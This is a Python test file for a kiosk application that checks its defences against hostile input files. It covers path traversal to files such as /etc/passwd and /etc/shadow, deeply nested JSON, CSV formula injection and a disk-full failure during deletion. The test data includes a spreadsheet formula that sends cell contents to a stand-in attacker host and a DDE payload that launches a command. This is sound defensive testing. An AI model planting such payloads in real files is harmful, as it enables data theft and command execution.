"""Attacks by file: a catalog or annotation file that reaches outside its folder, JSON nested
100,000 deep, a 40,000-entry Create ML file, CSV cells that run as spreadsheet formulas, and a
forget whose compaction meets a full disk. Each gets a clear answer and loses nothing."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import numpy as np
import pytest

from kiosk.cli import main
from kiosk.config import PathsConfig
from kiosk.core.annotations import parse_createml, parse_voc
from kiosk.core.untrusted import defuse_formula, safe_relative_path, undo_defuse
from kiosk.errors import StoreError
from kiosk.store.catalog import Catalog
from kiosk.store.db import Store
from kiosk.store.people import Consent, EnrolRequest, NewTemplate, open_people

HEADER = "sku,name,category,price,tags,image\n"


@pytest.mark.parametrize(
    ("text", "inside"),
    [
        ("img/a.png", True),
        ("a.png", True),
        ("", True),
        ("../secret.png", False),
        ("img/../../x.png", False),
        ("/etc/passwd", False),
        ("C:\\Windows\\win.ini", False),
        ("\\\\server\\share\\x.png", False),
        ("img\\..\\..\\x.png", False),
    ],
)
def test_only_paths_inside_the_folder_are_safe(text: str, inside: bool) -> None:
    assert safe_relative_path(text) is inside


@pytest.mark.parametrize("image", ["../outside.png", "/etc/hostname"])
def test_a_catalog_image_outside_its_folder_is_refused(tmp_path: Path, image: str) -> None:
    (tmp_path / "outside.png").write_bytes(b"png")
    folder = tmp_path / "catalog"
    folder.mkdir()
    path = folder / "c.csv"
    path.write_text(HEADER + f"A,Crisps,snacks,1.05,,{image}\n", encoding="utf-8")
    with Store(tmp_path / "k.db") as store:
        report = Catalog(store).import_file(path)
        assert not report.ok and "inside the catalog's folder" in str(report.errors[0])
        assert not Catalog(store).products(active_only=False)


def test_a_voc_filename_outside_the_images_folder_is_not_read(tmp_path: Path) -> None:
    xml = (
        "<annotation><filename>/etc/shadow</filename><object><name>Eve</name><bndbox>"
        "<xmin>1</xmin><ymin>1</ymin><xmax>9</xmax><ymax>9</ymax></bndbox></object></annotation>"
    )
    parsed = parse_voc(xml, tmp_path / "a.xml", tmp_path)
    assert not parsed.faces
    assert "must be a file inside" in parsed.problems[0].message


def test_json_nested_100k_deep_is_a_clear_error(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = "[" * 100_000 + "]" * 100_000
    parsed = parse_createml(deep, tmp_path / "a.json", tmp_path)
    assert not parsed.faces and "nested too deeply" in parsed.problems[0].message
    catalog = tmp_path / "deep.json"
    catalog.write_text(deep, encoding="utf-8")
    monkeypatch.setenv("KIOSK_PATHS_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("KIOSK_CONFIG", raising=False)
    assert main(["catalog", "import", str(catalog)]) == 4
    assert "nested too deeply" in capsys.readouterr().err


def test_a_40k_entry_create_ml_file_parses_with_every_line_right(tmp_path: Path) -> None:
    """This took 43 s (quadratic line counting); it is linear now."""
    entry = (
        '{"image": "p%d.jpg", "annotations": [{"label": "Ann", '
        '"coordinates": {"x": 50, "y": 50, "width": 20, "height": 20}}]}'
    )
    text = "[\n" + ",\n".join(entry % i for i in range(40_000)) + "\n]"
    parsed = parse_createml(text, tmp_path / "big.json", tmp_path)
    assert len(parsed.faces) == 40_000 and not parsed.problems
    assert parsed.faces[-1].where.line == 40_001


def test_catalog_csv_export_defuses_formulas_and_imports_them_back(tmp_path: Path) -> None:
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows = [("A", evil, "-2+3", "@SUM(1)"), ("B", "+cmd|' /C calc'!A0", "plain", "x")]
    source = tmp_path / "in.json"
    source.write_text(
        json.dumps(
            [
                {
                    "sku": s,
                    "name": n,
                    "category": "snacks",
                    "price": "1.00",
                    "description": d,
                    "tags": [t],
                }
                for s, n, d, t in rows
            ]
        ),
        encoding="utf-8",
    )
    with Store(tmp_path / "a.db") as store:
        assert Catalog(store).import_file(source).ok
        out = tmp_path / "out.csv"
        Catalog(store).export(out)
        originals = Catalog(store).products(active_only=False)
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    with Store(tmp_path / "b.db") as other:
        assert Catalog(other).import_file(out).ok
        assert Catalog(other).products(active_only=False) == originals  # round trip
    assert undo_defuse(str(defuse_formula("=1+1"))) == "=1+1"
    assert defuse_formula("it's fine") == "it's fine"


def test_forget_on_a_full_disk_forgets_and_says_the_file_was_not_rewritten(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("KIOSK_PATHS_DATA_DIR", str(tmp_path))
    monkeypatch.delenv("KIOSK_CONFIG", raising=False)
    rng = np.random.default_rng(0)
    templates = (NewTemplate(rng.normal(size=128).astype(np.float32), "camera"),)
    with open_people(PathsConfig(data_dir=tmp_path), None) as people:
        pid = people.enrol(EnrolRequest(Consent("s"), "k" * 64, templates, name="Quentin Q"))

    def full_disk(_store: Store) -> None:
        raise StoreError("database kiosk.db could not be compacted: database or disk is full")

    monkeypatch.setattr(Store, "compact", full_disk)
    assert main(["people", "forget", str(pid), "--staff", "anna"]) == 0
    out = capsys.readouterr().out
    assert f"forgot person {pid}" in out and "not rewritten" in out
    with open_people(PathsConfig(data_dir=tmp_path), None) as people:
        assert not people.list_people()
